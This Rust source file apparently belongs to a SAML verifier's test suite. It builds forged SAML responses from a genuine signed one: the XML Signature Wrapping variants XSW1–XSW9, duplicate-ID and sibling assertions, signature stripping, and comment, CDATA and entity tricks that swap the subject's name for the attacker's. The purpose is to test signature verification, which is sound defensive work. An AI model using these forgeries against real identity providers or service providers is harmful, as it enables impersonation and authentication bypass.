//! An accepted message, taken apart.

use super::edit::{at_end, behind_issuer, replace_id, wrap};
use super::tree::{ASSERTION, At, DSIG, PROTOCOL, Tree};
use super::{ATTACKER, must};

/// The IDs that the attacker gives to what he adds.
pub(super) const EVIL_RESPONSE: &str = "_evil-response";
pub(super) const EVIL_ASSERTION: &str = "_evil-assertion";

/// An element that may be signed. Its texts stand on their own: they carry the namespaces that
/// were declared around them, so that a signature of a moved part still verifies, and only its
/// place is wrong.
#[derive(Debug, Clone)]
pub(super) struct Part {
    pub(super) id: String,
    /// With its signature.
    pub(super) whole: String,
    /// Without its signature.
    pub(super) bare: String,
    pub(super) signature: Option<String>,
}

impl Part {
    fn of(element: At<'_>) -> Self {
        let signature = element.child(DSIG, "Signature");
        Self {
            id: element.attribute("ID").unwrap_or_default().to_owned(),
            whole: element.on_its_own(None),
            bare: element.on_its_own(signature),
            signature: signature.map(|signature| signature.on_its_own(None)),
        }
    }

    /// The same with another attribute in place of its ID.
    pub(super) fn bare_with(&self, attribute: &str) -> String {
        replace_id(&self.bare, &self.id, attribute)
    }
}

/// An accepted message, taken apart.
///
/// The methods make the wrapping permutations of Somorovsky et al., *On Breaking SAML: Be Whoever
/// You Want to Be* (2012), in the numbering that testing tools use, and other attacks that have a
/// name.
#[derive(Debug, Clone)]
pub struct Victim {
    pub(super) tree: Tree,
    /// What the attacker puts his own in place of, as it is written.
    pub(super) prize: String,
    pub(super) root: Part,
    pub(super) assertion: Option<Part>,
    start_tag: String,
    end_tag: String,
    /// Everything between the tags, the root's signature and the assertion left out.
    head: String,
}

impl Victim {
    /// Takes a response apart.
    ///
    /// # Panics
    /// If it is no response with an assertion and a name identifier: the test that attacks it
    /// would prove nothing.
    #[must_use]
    pub fn of(response: &[u8]) -> Self {
        let tree = must(std::str::from_utf8(response).ok().and_then(Tree::read));
        let root = must(tree.root());
        let assertion = must(root.child(ASSERTION, "Assertion"));
        let subject = must(assertion.child(ASSERTION, "Subject"));
        let name_id = must(subject.child(ASSERTION, "NameID"));
        Self::take_apart(&tree, root, Some(assertion), name_id.inner_text())
    }

    /// Takes any signed message apart. The attacker wants his own in place of `prize`.
    ///
    /// # Panics
    /// If it is no XML.
    #[must_use]
    pub fn of_message(message: &[u8], prize: &str) -> Self {
        let tree = must(std::str::from_utf8(message).ok().and_then(Tree::read));
        Self::take_apart(&tree, must(tree.root()), None, prize)
    }

    fn take_apart(tree: &Tree, root: At<'_>, assertion: Option<At<'_>>, prize: &str) -> Self {
        assert!(tree.text().contains(prize), "there is nothing to forge");
        let signature = root.child(DSIG, "Signature");
        Self {
            prize: prize.to_owned(),
            root: Part::of(root),
            assertion: assertion.map(Part::of),
            start_tag: tree.cut(root.start_tag()).to_owned(),
            end_tag: tree.cut(root.inner().end..root.whole().end).to_owned(),
            head: root
                .children()
                .filter(|child| Some(*child) != signature && Some(*child) != assertion)
                .map(|child| tree.cut(child.whole()))
                .collect(),
            tree: tree.clone(),
        }
    }

    pub(super) fn text(&self) -> &str {
        self.tree.text()
    }

    /// The same about the attacker.
    pub(super) fn forged(&self, text: &str) -> String {
        text.replace(&self.prize, ATTACKER)
    }

    fn assertion(&self) -> &Part {
        must(self.assertion.as_ref())
    }

    fn assertion_signature(&self) -> &str {
        must(self.assertion().signature.as_deref())
    }

    fn response_signature(&self) -> &str {
        must(self.root.signature.as_deref())
    }

    /// A copy of the assertion, unsigned, with another ID and about the attacker.
    pub(super) fn evil_assertion(&self) -> String {
        self.forged_assertion(EVIL_ASSERTION)
    }

    fn forged_assertion(&self, id: &str) -> String {
        self.forged(&self.assertion().bare_with(&format!(" ID=\"{id}\"")))
    }

    /// A response around `content`, under the original's ID and without a signature.
    pub(super) fn response(&self, content: &str) -> String {
        format!("{}{}{content}{}", self.start_tag, self.head, self.end_tag)
    }

    /// The same with the signature of the original, which covered something else.
    fn response_around(&self, content: &str) -> String {
        let response = self.response(content);
        match &self.root.signature {
            Some(signature) => behind_issuer(&response, signature),
            None => response,
        }
    }

    /// A response around `content`, under the attacker's ID.
    fn evil_response(&self, content: &str) -> Vec<u8> {
        let id = format!(" ID=\"{EVIL_RESPONSE}\"");
        format!(
            "{}{}{content}{}",
            replace_id(&self.start_tag, &self.root.id, &id),
            self.head,
            self.end_tag
        )
        .into_bytes()
    }

    /// XSW 1: a forged response, whose signature holds the original response.
    #[must_use]
    pub fn xsw1(&self) -> Vec<u8> {
        let wrapped = at_end(self.response_signature(), &self.root.bare);
        self.evil_response(&format!("{wrapped}{}", self.evil_assertion()))
    }

    /// XSW 2: a forged response, with the original response beside its signature.
    #[must_use]
    pub fn xsw2(&self) -> Vec<u8> {
        let signature = self.response_signature();
        self.evil_response(&format!(
            "{}{signature}{}",
            self.root.bare,
            self.evil_assertion()
        ))
    }

    /// XSW 3: a forged assertion in front of the signed one.
    #[must_use]
    pub fn xsw3(&self) -> Vec<u8> {
        let content = format!("{}{}", self.evil_assertion(), self.assertion().whole);
        self.response(&content).into_bytes()
    }

    /// XSW 4: a forged assertion around the signed one.
    #[must_use]
    pub fn xsw4(&self) -> Vec<u8> {
        let content = at_end(&self.evil_assertion(), &self.assertion().whole);
        self.response(&content).into_bytes()
    }

    /// XSW 5: a forged assertion with the original's signature, and the original behind it.
    #[must_use]
    pub fn xsw5(&self) -> Vec<u8> {
        let evil = at_end(&self.evil_assertion(), self.assertion_signature());
        let content = format!("{evil}{}", self.assertion().bare);
        self.response(&content).into_bytes()
    }

    /// XSW 6: a forged assertion with the original's signature, which holds the original.
    #[must_use]
    pub fn xsw6(&self) -> Vec<u8> {
        let wrapped = at_end(self.assertion_signature(), &self.assertion().bare);
        let content = at_end(&self.evil_assertion(), &wrapped);
        self.response(&content).into_bytes()
    }

    /// XSW 7: a forged assertion of the same ID within `Extensions`.
    #[must_use]
    pub fn xsw7(&self) -> Vec<u8> {
        self.extensions(&self.assertion().id)
    }

    /// XSW 7 with an ID of its own, so that nothing is ambiguous but the path.
    #[must_use]
    pub fn xsw7_with_another_id(&self) -> Vec<u8> {
        self.extensions(EVIL_ASSERTION)
    }

    fn extensions(&self, id: &str) -> Vec<u8> {
        let extensions = wrap(PROTOCOL, "Extensions", &self.forged_assertion(id));
        let content = format!("{extensions}{}", self.assertion().whole);
        self.response(&content).into_bytes()
    }

    /// XSW 8: a forged assertion with the original's signature, whose `Object` holds the original.
    #[must_use]
    pub fn xsw8(&self) -> Vec<u8> {
        let object = wrap(DSIG, "Object", &self.assertion().bare);
        let wrapped = at_end(self.assertion_signature(), &object);
        let content = at_end(&self.evil_assertion(), &wrapped);
        self.response(&content).into_bytes()
    }

    /// XSW 9: the genuine signature and assertion in an `Object` of a new signature element that
    /// signs nothing, in a forged assertion.
    #[must_use]
    pub fn xsw9(&self) -> Vec<u8> {
        let object = wrap(DSIG, "Object", &self.assertion().whole);
        let hull = wrap(DSIG, "Signature", &object);
        let content = behind_issuer(&self.evil_assertion(), &hull);
        self.response(&content).into_bytes()
    }

    /// A forged assertion behind the signed one.
    #[must_use]
    pub fn sibling_behind(&self) -> Vec<u8> {
        let content = format!("{}{}", self.assertion().whole, self.evil_assertion());
        self.response(&content).into_bytes()
    }

    /// A forged assertion beside the signed one, which hides in an unknown element.
    #[must_use]
    pub fn sibling_of_a_hidden_original(&self) -> Vec<u8> {
        let hidden = format!("<wrapper>{}</wrapper>", self.assertion().whole);
        let content = format!("{}{hidden}", self.evil_assertion());
        self.response(&content).into_bytes()
    }

    /// A forged assertion whose `Advice` holds the signed one.
    #[must_use]
    pub fn original_as_advice(&self) -> Vec<u8> {
        let advice = wrap(ASSERTION, "Advice", &self.assertion().whole);
        let content = at_end(&self.evil_assertion(), &advice);
        self.response(&content).into_bytes()
    }

    /// A forged assertion that stands beside the signed one under the same ID.
    #[must_use]
    pub fn same_id_twice(&self) -> Vec<u8> {
        let forged = self.forged_assertion(&self.assertion().id);
        let content = format!("{forged}{}", self.assertion().whole);
        self.response(&content).into_bytes()
    }

    /// All signatures taken out, and the name changed.
    #[must_use]
    pub fn stripped(&self) -> Vec<u8> {
        self.response(&self.forged(&self.assertion().bare))
            .into_bytes()
    }

    /// The name changed under the signature.
    #[must_use]
    pub fn renamed(&self) -> Vec<u8> {
        self.response_around(&self.forged(&self.assertion().whole))
            .into_bytes()
    }

    /// A comment in the middle of the name: canonical XML leaves it out, so the signature holds,
    /// and a reader that stops at the comment sees another name.
    #[must_use]
    pub fn comment_in_name(&self) -> Vec<u8> {
        self.split_name("<!-- -->")
    }

    /// A processing instruction in the middle of the name.
    #[must_use]
    pub fn instruction_in_name(&self) -> Vec<u8> {
        self.split_name("<?x y?>")
    }

    /// An empty CDATA section in the middle of the name: another text form of the same text.
    #[must_use]
    pub fn cdata_in_name(&self) -> Vec<u8> {
        self.split_name("<![CDATA[]]>")
    }

    fn split_name(&self, by: &str) -> Vec<u8> {
        let split = split(&self.prize, by);
        self.text().replace(&self.prize, &split).into_bytes()
    }

    /// A document type that declares an entity, and the name that uses it.
    #[must_use]
    pub fn entity_in_name(&self) -> Vec<u8> {
        let declared = format!(r#"<!DOCTYPE r [<!ENTITY who "{ATTACKER}">]>"#);
        self.behind_declaration(&declared, &self.text().replace(&self.prize, "&who;"))
    }

    /// `xml` with `doctype` in front of its root.
    pub(super) fn behind_declaration(&self, doctype: &str, xml: &str) -> Vec<u8> {
        let start = self.tree.root().map_or(0, |root| root.whole().start);
        let (declaration, rest) = xml.split_at_checked(start).unwrap_or(("", xml));
        [declaration, doctype, rest].concat().into_bytes()
    }

    /// Two copies of the assertion's signature.
    #[must_use]
    pub fn signature_twice(&self) -> Vec<u8> {
        let content = at_end(&self.assertion().whole, self.assertion_signature());
        self.response(&content).into_bytes()
    }
}

/// `text` with something in its middle, which is never within a reference.
pub(super) fn split(text: &str, by: &str) -> String {
    let middle = text.chars().count() / 2;
    let mut at = 0;
    let mut in_reference = false;
    for (count, (index, c)) in text.char_indices().enumerate() {
        if !in_reference {
            at = index;
            if count >= middle {
                break;
            }
        }
        in_reference = match c {
            '&' => true,
            ';' => false,
            _ => in_reference,
        };
    }
    let (first, second) = text.split_at_checked(at).unwrap_or((text, ""));
    format!("{first}{by}{second}")
}
